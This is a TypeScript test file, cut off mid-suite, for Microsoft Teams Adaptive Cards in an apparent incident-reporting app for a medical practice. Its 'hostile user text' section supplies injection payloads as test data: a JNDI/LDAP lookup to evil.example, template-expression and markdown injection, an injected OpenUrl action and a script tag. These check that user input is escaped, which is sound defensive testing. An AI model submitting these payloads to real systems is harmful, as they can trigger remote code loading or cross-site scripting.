import { readdirSync, readFileSync } from 'node:fs';
import { CITED_DOCUMENTS } from '../../src/policy/sources.ts';
import { describe, expect, it } from 'vitest';
import type { Incident } from '../../src/domain/incident.ts';
import { INCIDENT_STATUSES } from '../../src/domain/incident.ts';
import {
  LIMITS,
  STEPS,
  STEP_FIELDS,
  newDraft,
  type EvidenceFile,
  type ReportDraft,
  type ReportFacts,
  type StepId,
} from '../../src/domain/report.ts';
import {
  CARD_TEMPLATES,
  cancelledCard,
  evidencePackCard,
  incidentCard,
  myReportsCard,
  noticeCard,
  plainText,
  registerCard,
  summaryCard,
  reportStepCard,
  reporterQuestionCard,
  reporterUpdateCard,
  reporterViewCard,
  submittedCard,
  type CardTemplateName,
} from '../../src/views/index.ts';
import { STEP_TITLES } from '../../src/views/reportCards.ts';
import { CARDS_DIR, expandCard } from '../../src/views/templates.ts';
import { VERBS } from '../../src/contract/cards.ts';
import {
  TEAMS_MAX_BYTES,
  action,
  actions,
  body,
  elements,
  inputById,
  inputs,
  problems,
  shape,
  strings,
  siblings,
  textBlocks,
  texts,
  type Json,
} from '../support/cardChecks.ts';
import { contrastFailures } from '../support/contrast.ts';

// ---- sample data --------------------------------------------------------------------------------

const NOW = new Date('2026-11-03T14:20:00Z');
const PRACTICE = 'Wickersley Medical Practice';

const SCREENSHOT: EvidenceFile = {
  blobName: 'p1/d1/1.png',
  fileName: 'facebook review.png',
  contentType: 'image/png',
  size: 245_760,
  sha256: '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08',
  receivedAt: '2026-07-01T13:05:00Z',
};

const GOOD_ANSWERS = {
  platform: 'facebook',
  postUrl: 'https://www.facebook.com/groups/wickersley/posts/123456',
  seenDate: '2026-11-03',
  seenTime: '13:45',
  authorName: 'Jay Smith',
  authorRelationship: 'patient',
  postText: 'Rudest receptionist ever at Wickersley surgery. She should be sacked. Never going back.',
  categories: 'personal-attack,names-staff',
  namedParties: 'practice,colleagues',
  namedColleagues: 'The receptionist on Monday morning',
  atRisk: 'no',
  riskDetails: '',
  noScreenshot: 'false',
  noScreenshotReason: '',
};

function draftAt(step: StepId, answers: Record<string, string> = GOOD_ANSWERS, evidence: EvidenceFile[] = [SCREENSHOT]): ReportDraft {
  const draft = newDraft({ id: 'draft-7f3a', practiceId: 'wickersley', reporter: { aadObjectId: 'aad-1', name: 'Sam Reception' }, now: NOW });
  return { ...draft, step, answers: { ...draft.answers, ...answers }, evidence };
}

const FACTS: ReportFacts = {
  where: {
    platform: 'facebook',
    postUrl: GOOD_ANSWERS.postUrl,
    seenAt: '2026-11-03T13:45:00.000Z',
    seenDate: '2026-11-03',
    seenTime: '13:45',
    authorName: 'Jay Smith',
    authorRelationship: 'patient',
  },
  what: { postText: GOOD_ANSWERS.postText, categories: ['personal-attack'], namedParties: ['practice'] },
  risk: { atRisk: false },
  evidence: { screenshots: [SCREENSHOT] },
};

function incident(overrides: Partial<Incident> = {}, facts: Partial<ReportFacts> = {}): Incident {
  return {
    practiceId: 'wickersley',
    reference: 'PW-2026-0042',
    status: 'reported',
    reportedAt: '2026-11-03T14:20:00Z',
    reporter: { aadObjectId: 'aad-1', name: 'Sam Reception' },
    draftId: 'draft-7f3a',
    facts: { ...FACTS, ...facts },
    ...overrides,
  };
}

function incidents(count: number): Incident[] {
  const platforms = ['facebook', 'x', 'google-reviews', 'nhs-website', 'tiktok'] as const;
  return Array.from({ length: count }, (_, i) =>
    incident(
      {
        reference: `PW-2026-${String(count - i).padStart(4, '0')}`,
        status: INCIDENT_STATUSES[i % INCIDENT_STATUSES.length]!.id,
        reportedAt: new Date(Date.UTC(2026, 10, 3) - i * 86_400_000).toISOString(),
      },
      { where: { ...FACTS.where, platform: platforms[i % platforms.length]! } },
    ),
  );
}

const HOSTILE_TEXT = [
  '${jndi:ldap://evil.example/a}',
  '${$root.practiceName} ${draftId} ${answers.postText}',
  '[click](http://evil.example)',
  '**bold**',
  '# heading',
  '- list',
  '<at>Dr Patel</at>',
  '`code`',
  '{"type":"Action.OpenUrl","url":"http://evil.example","title":"Open"}',
  '{"type":"Input.Text","id":"x"}',
  '<script>alert(1)</script>',
].join('\n');

const HOSTILE_ANSWERS = {
  ...GOOD_ANSWERS,
  postUrl: 'https://evil.example/${jndi}/[x](http://evil.example)',
  authorName: '**Admin** ${$root.draftId} [me](http://evil.example)',
  postText: HOSTILE_TEXT,
  namedColleagues: '<at>Dr Patel</at> ${x}',
  riskDetails: '# ${y} **now**',
  noScreenshot: 'true',
  noScreenshotReason: '[deleted](http://evil.example) ${z}',
};
const HOSTILE_FILE: EvidenceFile = { ...SCREENSHOT, fileName: '[shot](http://evil.example) ${f} <b>.png' };
const HOSTILE_STRINGS = [...Object.values(HOSTILE_ANSWERS), HOSTILE_FILE.fileName];

/** One realistic sample per template: CARD_TEMPLATES must all be here. */
const SAMPLES: Record<CardTemplateName, () => Json> = {
  reportWhere: () => reportStepCard(draftAt('where'), { practiceName: PRACTICE }),
  reportWhat: () => reportStepCard(draftAt('what'), { practiceName: PRACTICE }),
  reportRisk: () => reportStepCard(draftAt('risk', { ...GOOD_ANSWERS, atRisk: 'yes' }), { practiceName: PRACTICE }),
  reportEvidence: () => reportStepCard(draftAt('evidence'), { practiceName: PRACTICE }),
  reportReview: () => reportStepCard(draftAt('review'), { practiceName: PRACTICE }),
  reportSubmitted: () => submittedCard(incident(), { practiceName: PRACTICE }),
  reportCancelled: () => cancelledCard(),
  myReports: () => myReportsCard(incidents(3), { practiceName: PRACTICE }),
  notice: () => noticeCard('Already sent', 'That report was already sent: PW-2026-0042', [{ title: 'My reports', verb: VERBS.myReports }]),
  // The incident and reporter cards are tested in depth in incidentCards.test.ts.
  incident: () =>
    incidentCard(incident(), { practiceName: PRACTICE, view: 'decider', refreshUserIds: ['29:manager'], now: NOW, assignees: [], documents: CITED_DOCUMENTS, replyFindings: [], replyText: 'Thank you for letting us know.' }),
  reporterQuestion: () =>
    reporterQuestionCard(incident(), { askedBy: { aadObjectId: 'aad-m', name: 'Pat Manager' }, askedAt: '2026-11-03T15:00:00Z', question: 'Did you see who posted it?' }, { practiceName: PRACTICE }),
  reporterUpdate: () => reporterUpdateCard(incident(), { practiceName: PRACTICE, summary: 'The practice manager decided not to respond publicly to the post.' }),
  reporterView: () =>
    reporterViewCard(
      incident({
        status: 'in-progress',
        handling: {
          version: 4,
          tasks: [{ id: 't1', actionId: 'public-reply', title: 'Post the approved reply in the same comment stream', owner: { aadObjectId: 'aad-1', name: 'Sam Reception' }, status: 'open', dueAt: '2026-11-03T19:20:00Z' }],
        },
      }),
      { practiceName: PRACTICE, told: ['The practice manager approved a brief public reply.'], replyToPost: 'Thank you for letting us know.', viewerAadObjectId: 'aad-1' },
    ),
  // The register and the evidence pack are tested in depth in registerCard.test.ts and incidentCards.test.ts.
  register: () =>
    registerCard(
      [{ practiceId: 'wickersley', reference: 'PW-2026-0042', version: 3, severity: 'high', status: 'awaiting-decision', reportedAt: '2026-11-03T11:20:00Z', platform: 'Facebook', nextStep: 'Decision by the practice manager', nextStepDue: '2026-11-03T19:20:00Z', overdue: false, urgent: false }],
      { practiceName: PRACTICE, page: 0, pageCount: 1, total: 1, now: NOW },
    ),
  evidencePack: () =>
    evidencePackCard({ reference: 'PW-2026-0042', url: 'https://postwatch.example/packs/abc?sig=def', expiresAt: new Date('2026-11-03T14:35:00Z'), sha256: SCREENSHOT.sha256, fileName: 'PW-2026-0042-evidence.zip' }),
  // The summary card is tested in depth in summaryCard.test.ts.
  summary: () =>
    summaryCard(
      {
        total: 3, atRisk: 1, open: 1, repeatAuthors: 0, incidentsByRepeatAuthors: 0,
        bySeverity: [['high', 2], ['low', 1]], byStatus: [['Closed', 2]], byCategory: [['Complaint about care', 2]], byPlatform: [['Facebook', 3]],
        byMonth: [['2026-10', 2], ['2026-11', 1]], response: { decided: 2, medianMinutes: 95, withinTarget: 1, withTarget: 2, overdueNow: 1 },
      },
      { practiceName: PRACTICE, now: NOW },
    ),
};

// ---- the checker itself can fail ----------------------------------------------------------------

describe('the card checker', () => {
  const good = SAMPLES.reportWhere();
  const broken: Array<[string, (c: Json) => void, RegExp]> = [
    ['no version', (c) => delete c.version, /version missing/],
    ['version 1.6', (c) => (c.version = '1.6'), /above what Teams renders/],
    ['an unknown element', (c) => body(c).push({ type: 'Graph' }), /parse/],
    ['a bad property value', (c) => body(c).push({ type: 'TextBlock', text: 'x', size: 'Gigantic' }), /parse|validate/],
    ['a duplicate input id', (c) => body(c).push({ type: 'Input.Text', id: 'platform', label: 'Again' }), /validate/],
    ['an input without a label', (c) => body(c).push({ type: 'Input.Text', id: 'x' }), /has no label/],
    ['a required input checked by the client', (c) => body(c).push({ type: 'Input.Text', id: 'x', label: 'X', isRequired: true }), /isRequired/],
    ['"(required)" in the label and an isRequired asterisk', (c) => body(c).push({ type: 'Input.Text', id: 'x', label: 'X (required)', isRequired: true }), /says so twice/],
    ['a field left unexpanded', (c) => body(c).push({ type: 'TextBlock', text: 'Hello ${name}' }), /unexpanded/],
    ['an unknown verb', (c) => (c.actions as Json[]).push({ type: 'Action.Execute', title: 'X', verb: 'incident.delete' }), /unknown verb/],
    ['extra action data', (c) => (c.actions as Json[]).push({ type: 'Action.Execute', title: 'X', verb: 'report.next', data: { draftId: 'd', role: 'manager' } }), /not allowed/],
    ['an OpenUrl action', (c) => (c.actions as Json[]).push({ type: 'Action.OpenUrl', title: 'X', url: 'https://evil.example' }), /only Action.Execute/],
    ['a card over 28 KB', (c) => body(c).push({ type: 'TextBlock', text: 'x'.repeat(TEAMS_MAX_BYTES) }), /bytes/],
  ];
  it('passes a good card', () => expect(problems(good)).toEqual([]));
  it.each(broken)('catches %s', (_, breakIt, expected) => {
    const card = structuredClone(good);
    breakIt(card);
    expect(problems(card).join('\n')).toMatch(expected);
  });
  it('catches a template expanded without its data (a missing field stays as literal ${x})', () => {
    expect(problems(expandCard('reportWhere', {})).join('\n')).toMatch(/unexpanded/);
  });
});

// ---- every template ------------------------------------------------------------------------------

describe('card templates', () => {
  it('CARD_TEMPLATES lists every file in cards/ and nothing else', () => {
    const files = readdirSync(CARDS_DIR).filter((f) => f.endsWith('.json')).sort();
    expect(Object.values(CARD_TEMPLATES).sort()).toEqual(files);
  });

  it('every template has a sample in this test', () => {
    expect(Object.keys(SAMPLES).sort()).toEqual(Object.keys(CARD_TEMPLATES).sort());
  });

  it.each(Object.entries(CARD_TEMPLATES))('%s (%s) is a 1.5 card as written', (_, file) => {
    const raw = JSON.parse(readFileSync(new URL(file, CARDS_DIR), 'utf8')) as Json;
    expect(raw.type).toBe('AdaptiveCard');
    expect(raw.version).toBe('1.5');
  });

  it.each(Object.keys(SAMPLES) as CardTemplateName[])('%s expands to a valid card', (name) => {
    expect(problems(SAMPLES[name]())).toEqual([]);
  });
});

// ---- report steps --------------------------------------------------------------------------------

describe('report step cards', () => {
  it.each(STEPS)('%s: heading, practice, navigation and action data', (step) => {
    const card = reportStepCard(draftAt(step), { practiceName: PRACTICE });
    expect(problems(card)).toEqual([]);
    const n = STEPS.indexOf(step) + 1;
    expect(texts(card)).toContain(`Step ${n} of ${STEPS.length}: ${STEP_TITLES[step]}`);
    expect(texts(card)).toContain(PRACTICE);
    const titles = (card.actions as Json[]).map((a) => a.title);
    expect(titles.includes('Back')).toBe(step !== 'where');
    expect(titles.includes('Next')).toBe(step !== 'review');
    expect(titles.includes('Submit')).toBe(step === 'review');
    expect(titles).toContain('Cancel');
    for (const a of actions(card)) {
      const data = a.data as Json;
      expect(data.draftId).toBe('draft-7f3a');
      expect(data.step).toBe(step);
      const extra = Object.keys(data).filter((k) => k !== 'draftId' && k !== 'step');
      if (a.verb === VERBS.edit) expect(extra).toEqual(['editStep']);
      else if (a.verb === VERBS.risk) expect(extra).toEqual(['answer']);
      else expect(extra).toEqual([]);
    }
    expect(action(card, 'Cancel')[0]?.verb).toBe(VERBS.cancel);
    expect(action(card, 'Cancel')[0]?.associatedInputs).toBe('none');
  });

  it('where: inputs, ids and current answers', () => {
    const card = reportStepCard(draftAt('where'), { practiceName: PRACTICE });
    expect(inputs(card).map((i) => i.id)).toEqual([...STEP_FIELDS.where]);
    const platform = inputById(card, 'platform')!;
    expect(platform).toMatchObject({ type: 'Input.ChoiceSet', style: 'compact', value: 'facebook' });
    // Checked on the server: no isRequired, so Back can send what was typed and the label says "(required)" once.
    expect(platform).not.toHaveProperty('isRequired');
    expect(String(platform!.label).match(/\(required\)/g)).toHaveLength(1);
    expect((platform.choices as Json[]).map((c) => c.value)).toContain('nhs-website');
    expect(inputById(card, 'postUrl')).toMatchObject({ type: 'Input.Text', style: 'url', value: GOOD_ANSWERS.postUrl, maxLength: LIMITS.postUrl });
    expect(inputById(card, 'postUrl')!.isRequired).toBeUndefined();
    expect(inputById(card, 'seenDate')).toMatchObject({ type: 'Input.Date', value: '2026-11-03' });
    expect(inputById(card, 'seenTime')).toMatchObject({ type: 'Input.Time', value: '13:45' });
    expect(inputById(card, 'authorName')).toMatchObject({ value: 'Jay Smith' });
    expect(inputById(card, 'authorRelationship')).toMatchObject({ type: 'Input.ChoiceSet', value: 'patient' });
  });

  it('where: a new draft defaults to today, now (UK time) and an unknown author', () => {
    const fresh = newDraft({ id: 'd', practiceId: 'p', reporter: { aadObjectId: 'a', name: 'n' }, now: new Date('2026-07-01T13:05:00Z') });
    const card = reportStepCard(fresh, { practiceName: PRACTICE });
    expect(problems(card)).toEqual([]);
    expect(inputById(card, 'seenDate')!.value).toBe('2026-07-01');
    expect(inputById(card, 'seenTime')!.value).toBe('14:05');
    expect(inputById(card, 'authorRelationship')!.value).toBe('unknown');
    expect(inputById(card, 'platform')!.value).toBe('');
  });

  it('where: answers a choice or date input cannot show are not put in it', () => {
    const card = reportStepCard(draftAt('where', { ...GOOD_ANSWERS, platform: 'myspace', seenDate: '3rd Nov', seenTime: 'noon', authorRelationship: 'boss' }), {
      practiceName: PRACTICE,
    });
    expect(problems(card)).toEqual([]);
    expect(inputById(card, 'platform')!.value).toBe('');
    expect(inputById(card, 'seenDate')!.value).toBe('');
    expect(inputById(card, 'seenTime')!.value).toBe('');
    expect(inputById(card, 'authorRelationship')!.value).toBe('unknown');
  });

  it('what: inputs, limits and the "write factually" hint', () => {
    const card = reportStepCard(draftAt('what'), { practiceName: PRACTICE });
    expect(inputs(card).map((i) => i.id)).toEqual([...STEP_FIELDS.what]);
    expect(inputById(card, 'postText')).toMatchObject({ isMultiline: true, maxLength: LIMITS.postText, value: GOOD_ANSWERS.postText });
    expect(inputById(card, 'categories')).toMatchObject({ isMultiSelect: true, style: 'expanded', value: 'personal-attack,names-staff' });
    expect(inputById(card, 'namedParties')).toMatchObject({ isMultiSelect: true, style: 'expanded', value: 'practice,colleagues' });
    expect((inputById(card, 'namedParties')!.choices as Json[]).map((c) => c.title)).toEqual(['The practice', 'Named colleagues', 'Other patients']);
    expect(inputById(card, 'namedColleagues')).toMatchObject({ value: GOOD_ANSWERS.namedColleagues });
    expect(texts(card).join(' ')).toMatch(/write factually/i);
    expect(texts(card).join(' ')).toMatch(/subject access/);
  });

  it('what: unknown ticks are dropped from the checkboxes', () => {
    const card = reportStepCard(draftAt('what', { ...GOOD_ANSWERS, categories: 'threat,evil,threat', namedParties: 'x' }), { practiceName: PRACTICE });
    expect(inputById(card, 'categories')!.value).toBe('threat');
    expect(inputById(card, 'namedParties')!.value).toBe('');
  });

  describe('risk', () => {
    const riskCard = (atRisk: string) => reportStepCard(draftAt('risk', { ...GOOD_ANSWERS, atRisk, riskDetails: 'He said he would wait outside.' }), { practiceName: PRACTICE });

    it('unanswered: the question, Yes and No buttons, no Next, no alarm', () => {
      const card = riskCard('');
      expect(problems(card)).toEqual([]);
      expect(texts(card)).toContain('Does anyone feel at risk of harm?');
      const yes = action(card, 'Yes')[0]!;
      const no = action(card, 'No')[0]!;
      expect(yes).toMatchObject({ verb: VERBS.risk, data: { draftId: 'draft-7f3a', step: 'risk', answer: 'yes' } });
      expect(no).toMatchObject({ verb: VERBS.risk, data: { draftId: 'draft-7f3a', step: 'risk', answer: 'no' } });
      expect(action(card, 'Next')).toEqual([]);
      expect(JSON.stringify(card)).not.toContain('999');
      expect(inputs(card).map((i) => i.id)).toEqual(['riskDetails']);
      expect(inputById(card, 'riskDetails')!.value).toBe('He said he would wait outside.');
    });

    it('yes: 999/101 and who was alerted at the top, in attention style, then Next', () => {
      const card = reportStepCard(
        { ...draftAt('risk', { ...GOOD_ANSWERS, atRisk: 'yes' }), riskAlerted: ['Mary Manager', 'Dan *Deputy*'] },
        { practiceName: PRACTICE },
      );
      expect(problems(card)).toEqual([]);
      const top = body(card)[0]!;
      expect(top).toMatchObject({ type: 'Container', style: 'attention' });
      const topText = texts(top).join('\n');
      expect(topText).toContain('If anyone is in immediate danger, call 999 now. Otherwise call the police on 101.');
      expect(topText).toContain('We are alerting Mary Manager and Dan \\*Deputy\\* straight away.');
      expect(action(card, 'Next')[0]).toMatchObject({ verb: VERBS.next, data: { draftId: 'draft-7f3a', step: 'risk' } });
    });

    it('yes, but nobody could be alerted: says so plainly, with 999/101 and "phone the practice manager"', () => {
      const card = reportStepCard({ ...draftAt('risk', { ...GOOD_ANSWERS, atRisk: 'yes' }), riskAlerted: [] }, { practiceName: PRACTICE });
      expect(problems(card)).toEqual([]);
      const topText = texts(body(card)[0]!).join('\n');
      expect(topText).toMatch(/Nobody could be alerted automatically/);
      expect(topText).toMatch(/Phone the practice manager/);
      expect(topText).toMatch(/999/);
      expect(topText).toMatch(/101/);
      expect(topText).not.toMatch(/alerting/);
    });

    it('yes, with no record of an alert: claims nobody was told and nobody was not', () => {
      const topText = texts(body(riskCard('yes'))[0]!).join('\n');
      expect(topText).toMatch(/If you are not sure the practice manager knows, phone them now/);
      expect(topText).not.toMatch(/alerting|alerted/);
    });

    it('no: no alarm, the answer shown, Next to carry on', () => {
      const card = riskCard('no');
      expect(problems(card)).toEqual([]);
      expect(JSON.stringify(card)).not.toContain('999');
      expect(texts(card)).toContain('Your answer: No.');
      expect(action(card, 'Next')).toHaveLength(1);
    });
  });

  describe('evidence', () => {
    it('lists screenshots: name, size, received time (UK), first 12 of the SHA-256', () => {
      const card = reportStepCard(draftAt('evidence'), { practiceName: PRACTICE });
      expect(problems(card)).toEqual([]);
      const all = texts(card).join('\n');
      expect(all).toMatch(/paste/i);
      expect(all).toMatch(/saved as soon as it arrives/);
      expect(all).toContain('facebook review.png');
      expect(all).toContain('240 KB');
      expect(all).toContain('1 Jul 2026, 14:05'); // 13:05Z is 14:05 BST
      expect(all).toContain('9f86d081884c');
      expect(all).not.toContain('9f86d081884c7');
      // A screenshot is in: nothing to tick.
      expect(inputs(card)).toEqual([]);
    });

    it('with no screenshot: the toggle and the reason, keeping answers', () => {
      const card = reportStepCard(draftAt('evidence', { ...GOOD_ANSWERS, noScreenshot: 'true', noScreenshotReason: 'Deleted already' }, []), {
        practiceName: PRACTICE,
      });
      expect(problems(card)).toEqual([]);
      expect(inputs(card).map((i) => i.id)).toEqual([...STEP_FIELDS.evidence]);
      expect(inputById(card, 'noScreenshot')).toMatchObject({ type: 'Input.Toggle', title: 'I have no screenshot', valueOn: 'true', valueOff: 'false', value: 'true' });
      expect(inputById(card, 'noScreenshotReason')).toMatchObject({ value: 'Deleted already', maxLength: LIMITS.noScreenshotReason });
      expect(texts(card)).toContain('No screenshots received yet.');
    });

    it('lists at most 20 screenshots and counts the rest', () => {
      const many = Array.from({ length: 23 }, (_, i) => ({ ...SCREENSHOT, fileName: `shot-${i}.png` }));
      const card = reportStepCard(draftAt('evidence', GOOD_ANSWERS, many), { practiceName: PRACTICE });
      expect(problems(card)).toEqual([]);
      expect(texts(card)).toContain('And 3 more screenshots, all saved.');
    });
  });

  describe('review', () => {
    it('summarises every step with an Edit each, then Submit, Back, Cancel', () => {
      const card = reportStepCard(draftAt('review'), { practiceName: PRACTICE });
      expect(problems(card)).toEqual([]);
      expect(inputs(card)).toEqual([]);
      const edits = action(card, 'Edit');
      expect(edits.map((e) => (e.data as Json).editStep)).toEqual(['where', 'what', 'risk', 'evidence']);
      for (const e of edits) expect(e).toMatchObject({ verb: VERBS.edit, data: { draftId: 'draft-7f3a', step: 'review' } });
      expect((card.actions as Json[]).map((a) => a.title)).toEqual(['Submit', 'Back', 'Cancel']);
      expect(action(card, 'Submit')[0]).toMatchObject({ verb: VERBS.submit, data: { draftId: 'draft-7f3a', step: 'review' } });
      const all = JSON.stringify(card);
      for (const shown of ['Facebook', 'Tue 3 Nov 2026, 13:45', 'Jay Smith', 'Patient', 'Personal attack or insult, Names or identifies staff', 'The practice, Named colleagues', 'facebook review.png', '1 screenshot'])
        expect(all).toContain(shown);
      expect(texts(card)).toContain(GOOD_ANSWERS.postText);
    });

    it('says when there is no screenshot, and why', () => {
      const card = reportStepCard(draftAt('review', { ...GOOD_ANSWERS, noScreenshot: 'true', noScreenshotReason: 'Post was deleted' }, []), { practiceName: PRACTICE });
      expect(problems(card)).toEqual([]);
      expect(JSON.stringify(card)).toContain('Post was deleted');
      expect(texts(card)).toContain('No screenshot');
    });

    it('an 8,000-character post stays under 28 KB on the what and review cards', () => {
      const long = 'Absolutely disgraceful service, the receptionist was rude and the doctor did not listen. '.repeat(100).slice(0, LIMITS.postText);
      expect(long).toHaveLength(8_000);
      for (const step of ['what', 'review'] as const) {
        const card = reportStepCard(draftAt(step, { ...GOOD_ANSWERS, postText: long }), { practiceName: PRACTICE });
        expect(problems(card)).toEqual([]);
      }
      const review = reportStepCard(draftAt('review', { ...GOOD_ANSWERS, postText: long }), { practiceName: PRACTICE });
      expect(texts(review)).toContain(long); // shown whole when it fits
    });

    it('every field at its limit, full of markdown, 20 screenshots: still under 28 KB (the post is shortened)', () => {
      const worst = (n: number) => '*[_<`'.repeat(Math.ceil(n / 5)).slice(0, n + 1);
      const answers = {
        ...GOOD_ANSWERS,
        postUrl: `https://evil.example/${'_'.repeat(LIMITS.postUrl)}`.slice(0, LIMITS.postUrl + 1),
        authorName: worst(LIMITS.authorName),
        postText: worst(LIMITS.postText),
        namedColleagues: worst(LIMITS.namedColleagues),
        riskDetails: worst(LIMITS.riskDetails),
      };
      const files = Array.from({ length: 20 }, (_, i) => ({ ...SCREENSHOT, fileName: `${worst(120)}-${i}.png` }));
      const card = reportStepCard(draftAt('review', answers, files), { practiceName: PRACTICE, notice: { tone: 'attention', text: worst(300) } });
      expect(problems(card, { userText: Object.values(answers) })).toEqual([]);
      expect(texts(card).join('\n')).toMatch(/Showing the first [\d,]+ of 8,000 characters\. The full text is kept\./);
      const what = reportStepCard(draftAt('what', answers), { practiceName: PRACTICE });
      expect(problems(what)).toEqual([]);
    });
  });

  describe('errors', () => {
    const cases: Array<[StepId, string]> = STEPS.flatMap((step) => STEP_FIELDS[step].map((field) => [step, field] as [StepId, string]));

    it.each(cases)('%s.%s: shown beneath the field in attention colour, with a summary at the top', (step, field) => {
      const message = `Problem with ${field}: fix it.`;
      const evidence = step === 'evidence' ? [] : [SCREENSHOT];
      const card = reportStepCard(draftAt(step, { ...GOOD_ANSWERS, atRisk: '' }, evidence), { practiceName: PRACTICE, errors: { [field]: message } });
      expect(problems(card)).toEqual([]);
      const summary = body(card)[0]!;
      expect(summary).toMatchObject({ type: 'Container', style: 'attention' });
      expect(texts(summary)).toContain('Please fix the highlighted answers.');
      const error = textBlocks(card).find((t) => t.text === message);
      expect(error).toMatchObject({ weight: 'Bolder', wrap: true });
      const { list, index } = siblings(card, error!);
      const input = inputById(card, field);
      if (input) {
        expect(list[index - 1]).toBe(input);
      } else {
        // atRisk is answered with buttons: its error sits under the question, above the details box.
        expect(field).toBe('atRisk');
        expect(list.indexOf(inputById(card, 'riskDetails'))).toBeGreaterThan(index);
      }
      expect(textBlocks(card).filter((t) => t.text === message)).toHaveLength(1);
      // Default-coloured: Teams' attention text colour fails 4.5:1 in the dark theme.
      expect(contrastFailures(card)).toEqual([]);
    });

    it('no errors: no summary and no error text', () => {
      const card = reportStepCard(draftAt('where'), { practiceName: PRACTICE, errors: {} });
      expect(JSON.stringify(card)).not.toContain('Please fix');
      expect(textBlocks(card).filter((t) => t.color === 'Attention')).toEqual([]);
    });

    it('an error for a field this card does not show is told in the summary', () => {
      const card = reportStepCard(draftAt('review'), { practiceName: PRACTICE, errors: { postText: 'Copy the words of the post.' } });
      expect(problems(card)).toEqual([]);
      expect(texts(body(card)[0]!)).toEqual(['Please check this before you carry on:', 'Copy the words of the post.']);
    });

    it('an error message is shown as text, not markdown', () => {
      const card = reportStepCard(draftAt('where'), { practiceName: PRACTICE, errors: { platform: '[bad](http://evil.example)' } });
      expect(texts(card)).toContain('\\[bad\\](http://evil.example)');
    });
  });

  describe('notice banner', () => {
    it.each([
      ['attention', 'attention'],
      ['good', 'good'],
      ['default', 'emphasis'],
    ] as const)('%s notice at the top in %s style', (tone, style) => {
      const text = 'Your report was NOT saved. Your answers are kept: press Submit again.';
      const card = reportStepCard(draftAt('review'), { practiceName: PRACTICE, notice: { tone, text } });
      expect(problems(card)).toEqual([]);
      expect(body(card)[0]).toMatchObject({ type: 'Container', style });
      expect(texts(body(card)[0]!)).toEqual([text]);
    });

    it('the 999 warning stays above a notice on the risk card', () => {
      const card = reportStepCard(draftAt('risk', { ...GOOD_ANSWERS, atRisk: 'yes' }), { practiceName: PRACTICE, notice: { tone: 'default', text: 'Welcome back' } });
      expect(texts(body(card)[0]!).join(' ')).toContain('999');
      expect(texts(body(card)[1]!)).toEqual(['Welcome back']);
    });
  });
});

// ---- user text is data ---------------------------------------------------------------------------

describe('hostile user text stays literal', () => {
  const benign = (step: StepId) => reportStepCard(draftAt(step, { ...GOOD_ANSWERS, noScreenshot: 'true', noScreenshotReason: 'Deleted' }, step === 'evidence' ? [] : [SCREENSHOT]), { practiceName: PRACTICE });
  const hostile = (step: StepId) =>
    reportStepCard(draftAt(step, HOSTILE_ANSWERS, step === 'evidence' ? [] : [HOSTILE_FILE]), { practiceName: PRACTICE });

  it.each(STEPS)('%s: no extra elements or actions, nothing evaluated', (step) => {
    const card = hostile(step);
    expect(problems(card, { userText: HOSTILE_STRINGS })).toEqual([]);
    expect(shape(card)).toEqual(shape(benign(step)));
    expect(JSON.stringify(card)).not.toContain('"Action.OpenUrl","url"');
    expect(JSON.stringify(card)).not.toContain(PRACTICE + ' draft-7f3a'); // ${$root.practiceName} ${draftId} not evaluated
  });

  it('inputs hold the text exactly as typed', () => {
    const where = hostile('where');
    expect(inputById(where, 'postUrl')!.value).toBe(HOSTILE_ANSWERS.postUrl);
    expect(inputById(where, 'authorName')!.value).toBe(HOSTILE_ANSWERS.authorName);
    const what = hostile('what');
    expect(inputById(what, 'postText')!.value).toBe(HOSTILE_TEXT);
    expect(inputById(what, 'namedColleagues')!.value).toBe(HOSTILE_ANSWERS.namedColleagues);
    expect(inputById(hostile('risk'), 'riskDetails')!.value).toBe(HOSTILE_ANSWERS.riskDetails);
    expect(inputById(hostile('evidence'), 'noScreenshotReason')!.value).toBe(HOSTILE_ANSWERS.noScreenshotReason);
  });

  it('the review shows it escaped, never as markdown', () => {
    const card = hostile('review');
    const all = texts(card).join('\n') + JSON.stringify(elements(card).filter((e) => e.type === 'FactSet'));
    expect(texts(card)).toContain(plainText(HOSTILE_TEXT));
    expect(all).toContain('${jndi:ldap://evil.example/a}');
    expect(all).toContain('${$root.practiceName} ${draftId} ${answers.postText}');
    expect(all).not.toMatch(/(^|[^\\])\[click\]/);
    expect(all).not.toMatch(/(^|[^\\])\*\*bold/);
    expect(all).not.toMatch(/(^|[^\\])<script>/);
    expect(all).not.toMatch(/(^|[^\\])<at>/);
    expect(all).toContain(plainText(HOSTILE_FILE.fileName));
  });

  it('a hostile reason for no screenshot is escaped on the review', () => {
    const card = reportStepCard(draftAt('review', HOSTILE_ANSWERS, []), { practiceName: PRACTICE });
    expect(problems(card, { userText: HOSTILE_STRINGS })).toEqual([]);
    const reason = elements(card).find((e) => e.type === 'FactSet' && JSON.stringify(e).includes('Why not')) as Json;
    expect(reason.facts).toEqual([{ title: 'Why not', value: plainText(HOSTILE_ANSWERS.noScreenshotReason) }]);
  });

  it('a hostile screenshot name on the evidence card is escaped', () => {
    const card = reportStepCard(draftAt('evidence', GOOD_ANSWERS, [HOSTILE_FILE]), { practiceName: PRACTICE });
    expect(problems(card, { userText: [HOSTILE_FILE.fileName] })).toEqual([]);
    expect(texts(card)).toContain(plainText(HOSTILE_FILE.fileName));
    expect(shape(card)).toEqual(shape(reportStepCard(draftAt('evidence'), { practiceName: PRACTICE })));
  });

  it('a practice name or notice cannot inject markdown either', () => {
    const card = reportStepCard(draftAt('where'), { practiceName: '[Evil](http://evil.example)', notice: { tone: 'good', text: '**${x}**' } });
    expect(problems(card, { userText: ['**${x}**'] })).toEqual([]);
    expect(texts(card)).toContain('\\[Evil\\](http://evil.example)');
    expect(texts(card)).toContain('\\*\\*${x}\\*\\*');
  });
});

// ---- after the report ----------------------------------------------------------------------------

describe('submitted card', () => {
  it('names who will review it, or says plainly that nobody could be given it', () => {
    const named = texts(submittedCard(incident(), { practiceName: PRACTICE, reviewers: { people: ['Mary Manager'], reviewChannel: true } })).join('\n');
    expect(named).toMatch(/Mary Manager will review your report/);
    const channel = texts(submittedCard(incident(), { practiceName: PRACTICE, reviewers: { people: [], reviewChannel: true } })).join('\n');
    expect(channel).toMatch(/incident review team/);
    const nobody = submittedCard(incident(), { practiceName: PRACTICE, reviewers: { people: [], reviewChannel: false } });
    expect(problems(nobody)).toEqual([]);
    expect(texts(nobody).join('\n')).toMatch(/Nobody could be given your report automatically.*tell the practice manager about it now/s);
    expect(texts(nobody).join('\n')).not.toMatch(/will review your report/);
  });

